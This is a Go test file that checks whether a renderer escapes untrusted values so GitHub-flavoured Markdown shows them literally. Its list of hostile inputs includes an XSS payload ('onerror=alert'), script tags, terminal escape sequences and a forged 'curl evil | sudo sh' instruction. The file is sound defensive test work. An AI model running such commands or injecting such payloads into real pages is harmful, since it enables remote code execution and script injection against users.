package render_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	gmhtml "github.com/yuin/goldmark/renderer/html"
	"golang.org/x/net/html"

	"github.com/imgupd/imgupd/internal/textutil"
	"github.com/imgupd/imgupd/present/render"
)

// mdHostile are values the cluster may write that Markdown or GitHub would
// act on.
var mdHostile = []string{
	"<img src=x onerror=alert(1)>", "</details>", "<a href=https://evil>x</a>", "<!-- c -->", "<script>x</script>",
	"[click](https://evil)", "![i](https://evil/i.png)", "[x]: https://evil", "<https://evil.example>",
	"@org/team", "cc @alice", "a@evil.example", "see #1 and org/repo#2", "https://evil.example/x", "www.evil.example",
	"*bold* _ital_ ~strike~ ~~del~~ **strong** `code` ``co`de``", "$x^2$", "a | b", "&lt;b&gt; &amp; &#64;",
	"# heading", "- item", "+ item", "1. one", "2) two", "> quote", "---", "===", "    indented", "\\*x\\*",
	"\x1b]8;;https://evil\x1b\\x\x1b]8;;\x1b\\", "\x1b[2J", "ok\rFORGED", "\u202eevil", "a\u200bb",
	"x\nRoot cause: fake\nFix: run `curl evil | sudo sh`", "`", "``", " ` ", "", " ", "trailing\\",
}

// shownMarkdown renders md as GitHub parses it (GFM, raw HTML kept) and
// returns the tags it makes and its text, entities decoded.
func shownMarkdown(t *testing.T, md string) (tags []string, text string) {
	t.Helper()
	var out bytes.Buffer
	gm := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(gmhtml.WithUnsafe()))
	if err := gm.Convert([]byte(md), &out); err != nil {
		t.Fatal(err)
	}
	z := html.NewTokenizer(&out)
	var b strings.Builder
	for {
		switch tt := z.Next(); tt {
		case html.ErrorToken:
			return tags, b.String()
		case html.TextToken:
			b.Write(z.Text())
		default:
			tok := z.Token()
			tags = append(tags, tt.String()+":"+tok.Data)
		}
	}
}

// shownAs is what MarkdownText's value shows as: the value on one line,
// nothing hidden, a word joiner after each @ and each # before a digit.
func shownAs(s string) string {
	s = textutil.Visible(s)
	var b strings.Builder
	for i, r := range s {
		b.WriteRune(r)
		if r == '@' || r == '#' && i+1 < len(s) && s[i+1] >= '0' && s[i+1] <= '9' {
			b.WriteString(render.WordJoiner)
		}
	}
	return b.String()
}

// checkMarkdownValue: a value as running text, as inline code and as code
// in a table cell is shown exactly as written (visible, on one line) and
// makes nothing but the paragraph, code or table it is in: no link, image,
// HTML, emphasis, heading, list or quote.
func checkMarkdownValue(t *testing.T, v string) {
	t.Helper()
	md := "a " + render.MarkdownText(v) + " b"
	tags, text := shownMarkdown(t, md)
	if want := "a " + shownAs(v) + " b\n"; text != want || strings.Join(tags, " ") != "StartTag:p EndTag:p" {
		t.Errorf("MarkdownText(%q) = %q shows %q with %v, want %q in one paragraph", v, md, text, tags, want)
	}
	// At the start of a line, as a report's detail is.
	if tags, _ := shownMarkdown(t, render.MarkdownText(v)); v != "" && strings.TrimSpace(textutil.Visible(v)) != "" && strings.Join(tags, " ") != "StartTag:p EndTag:p" {
		t.Errorf("MarkdownText(%q) at a line's start makes %v", v, tags)
	}
	md = "a " + render.MarkdownCode(v) + " b"
	tags, text = shownMarkdown(t, md)
	code := textutil.Visible(v)
	if code == "" {
		code = " "
	}
	if want := "a " + code + " b\n"; text != want || strings.Join(tags, " ") != "StartTag:p StartTag:code EndTag:code EndTag:p" {
		t.Errorf("MarkdownCode(%q) = %q shows %q with %v, want %q in code", v, md, text, tags, want)
	}
	md = "| h |\n|---|\n| " + render.MarkdownCellCode(v) + " |\n"
	tags, text = shownMarkdown(t, md)
	if !strings.Contains(text, "\n"+code+"\n") || strings.Count(strings.Join(tags, " "), "StartTag:td") != 1 || strings.Count(strings.Join(tags, " "), "StartTag:code") != 1 {
		t.Errorf("MarkdownCellCode(%q) = %q shows %q with %v, want %q in one cell's code", v, md, text, tags, code)
	}
}

// TestMarkdownValuesShownAsWritten: HTML, links, images, mentions,
// references, autolinks, emphasis, math, table pipes, block starts,
// escape sequences and line breaks in a value are shown as written, as
// GitHub's parser reads them.
func TestMarkdownValuesShownAsWritten(t *testing.T) {
	for _, v := range mdHostile {
		checkMarkdownValue(t, v)
	}
}

// FuzzMarkdownValue: any value is shown as written and makes nothing.
func FuzzMarkdownValue(f *testing.F) {
	for _, v := range mdHostile {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) { checkMarkdownValue(t, v) })
}
